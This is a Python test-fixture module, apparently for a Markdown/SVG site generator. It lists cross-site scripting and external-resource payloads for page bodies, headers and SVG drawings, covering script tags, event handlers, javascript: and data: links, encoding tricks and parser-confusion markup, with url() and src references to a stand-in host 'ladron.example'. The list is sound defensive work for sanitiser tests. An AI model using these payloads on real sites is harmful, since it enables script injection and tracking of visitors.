"""Texts that try to run a script or to call another host, each in a place of a card where a person can write.

`entro` is what a script sets when it runs; LADRON is the host that nobody may be made to ask. Public shapes of
cross-site scripting, written for the ways of this house: Markdown, front matter and drawings.
"""

LADRON = "https://ladron.example"

# In the body of a page.
BODIES = [
    # --- scripts as they are
    "<script>window.entro=1</script>",
    "<SCRIPT>window.entro=1</SCRIPT>",
    "<script\n>window.entro=1</script\n>",
    "<script/x>window.entro=1</script>",
    f"<script src={LADRON}/a.js></script>",
    f'<script src="//{LADRON[8:]}/a.js"></script>',
    "- uno\n  <script>window.entro=1</script>",
    "> <script>window.entro=1</script>",
    "| a |\n|---|\n| <script>window.entro=1</script> |",
    "Texto <svg><script>window.entro=1</script></svg>",
    "<svg><script href='data:,window.entro=1'></script></svg>",
    "<math><mtext></mtext><script>window.entro=1</script></math>",
    # --- events
    "<img src=x onerror='window.entro=1'>",
    "<img src=x onerror='window.entro=1'//",
    "<img/src=x/onerror='window.entro=1'>",
    "<IMG SRC=x OnErRoR=window.entro=1>",
    "<img src=x onerror='&#119;indow.entro=1'>",
    "<svg onload='window.entro=1'>",
    "<svg/onload='window.entro=1'></svg>",
    "<body onload='window.entro=1'>",
    "<details open ontoggle='window.entro=1'><summary>a</summary></details>",
    "<input autofocus onfocus='window.entro=1'>",
    "<video><source onerror='window.entro=1'></video>",
    "<audio src=x onerror='window.entro=1'></audio>",
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart='window.entro=1'>a</b>",
    "<iframe onload='window.entro=1'></iframe>",
    "<object data=x onerror='window.entro=1'></object>",
    "<marquee onstart='window.entro=1'>a</marquee>",
    # --- documents inside the document
    "<iframe srcdoc='<script>parent.entro=1</script>'></iframe>",
    "<iframe src='javascript:parent.entro=1'></iframe>",
    f"<iframe src='{LADRON}/'></iframe>",
    f"<embed src='{LADRON}/a.svg'>",
    f"<object data='{LADRON}/a.svg'></object>",
    "<frameset><frame src='javascript:parent.entro=1'></frameset>",
    # --- what takes the reader, or the page, elsewhere
    f"<meta http-equiv=refresh content='0;url={LADRON}/'>",
    f"<base href='{LADRON}/'>\n\n[otra página](acerca.md)",
    f"<link rel=stylesheet href='{LADRON}/a.css'>",
    f"<link rel=prefetch href='{LADRON}/a'>",
    f"<style>@import '{LADRON}/a.css';</style>",
    f"<style>main{{background:url({LADRON}/a.png)}}</style>",
    f"<p style='background:url({LADRON}/a.png)'>a</p>",
    f"<img src='{LADRON}/a.png'>",
    f"<img srcset='{LADRON}/a.png 1x'>",
    f"![alcaldía]({LADRON}/a.png)",
    f"![alcaldía][foto]\n\n[foto]: {LADRON}/a.png",
    f"<video poster='{LADRON}/a.png'></video>",
    f"<audio autoplay src='{LADRON}/a.mp3'></audio>",
    f"<form action='{LADRON}/'><button>Siga</button></form>",
    f"<svg><image href='{LADRON}/a.png'/></svg>",
    f"<svg><use href='{LADRON}/a.svg#a'/></svg>",
    # --- links with a script
    "[siga](javascript:window.entro=1)",
    "[siga](JaVaScRiPt:window.entro=1)",
    "[siga](<javascript:window.entro=1>)",
    "[siga](&#106;avascript:window.entro=1)",
    "[siga](&#x6A;&#x61;vascript:window.entro=1)",
    "[siga](javascript&colon;window.entro=1)",
    "[siga](<java&Tab;script:window.entro=1>)",
    "[siga](<java&NewLine;script:window.entro=1>)",
    "[siga](<&#1;javascript:window.entro=1>)",
    "[siga][x]\n\n[x]: javascript:window.entro=1",
    "<javascript:window.entro=1>",
    "[siga](data:text/html,<script>opener.entro=1</script>)",
    "[siga](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuZW50cm89MTwvc2NyaXB0Pg==)",
    "[siga](vbscript:msgbox)",
    "<a href='javascript:window.entro=1'>siga</a>",
    "<svg><a href='javascript:window.entro=1'><text y='20'>siga</text></a></svg>",
    "*siga*{onclick=window.entro=1}",
    "## Título {#a onclick=window.entro=1}",
    # --- marks that a parser may read in two ways
    "<!--><script>window.entro=1</script>-->",
    "<!--!><img src=x onerror='window.entro=1'>-->",
    "<![CDATA[><script>window.entro=1</script>]]>",
    "<?php ><img src=x onerror='window.entro=1'>?>",
    "<noscript><p title='</noscript><img src=x onerror='window.entro=1'>'>",
    "<textarea></textarea><img src=x onerror='window.entro=1'>",
    "<title></title><img src=x onerror='window.entro=1'>",
    "`código` <img src=x onerror='window.entro=1'> `más`",
    "```\nun bloque\n```\n<img src=x onerror='window.entro=1'>",
    '*winaq*{lang=quc"><img/src=x/onerror=window.entro=1>}',
    "Nota[^\"><img/src=x/onerror='window.entro=1'>]",
]

# In a text of the header.
HEADERS = [
    "</title><script>window.entro=1</script>",
    '"><script>window.entro=1</script>',
    "<img src=x onerror=window.entro=1>",
    "{{ config.extra }} {% set x = 1 %}",
    "&lt;script&gt;window.entro=1&lt;/script&gt;",
]

# A drawing of a card, inside its <svg>.
DRAWINGS = [
    "<script>window.entro=1</script>",
    "<rect width='9' height='9' onclick='window.entro=1'/>",
    "<animate onbegin='window.entro=1' attributeName='x' dur='1s'/>",
    "<foreignObject><img src='x' onerror='window.entro=1'/></foreignObject>",
    f"<image href='{LADRON}/a.png' width='9' height='9'/>",
    f"<style>rect{{fill:url({LADRON}/a.svg#a)}}</style><rect width='9' height='9'/>",
    f"<rect width='9' height='9' fill='url({LADRON}/a.svg#a)'/>",
    f'<rect width="9" height="9" fill="url({LADRON}/a.svg#a)"/>',
    f'<rect width="9" height="9" fill="url(//{LADRON[8:]}/a.svg#a) red"/>',
    f'<path d="M0 0h9" stroke="&#117;rl({LADRON}/a.svg#a)"/>',
    f'<path d="M0 0h9" stroke="\\75rl({LADRON}/a.svg#a)"/>',
    f'<rect width="9" height="9" filter="url({LADRON}/a.svg#a)"/>',
    f'<rect width="9" height="9" mask="url({LADRON}/a.svg#a)"/>',
    f'<rect width="9" height="9" clip-path="url({LADRON}/a.svg#a)"/>',
    f'<path d="M0 0h9" marker-end="url({LADRON}/a.svg#a)"/>',
    "<a href='javascript:window.entro=1'><text y='20'>siga</text></a>",
    "<use href='data:image/svg+xml,&lt;svg onload=\"entro=1\"/&gt;'/>",
    "</svg><img src=x onerror=window.entro=1><svg>",
]
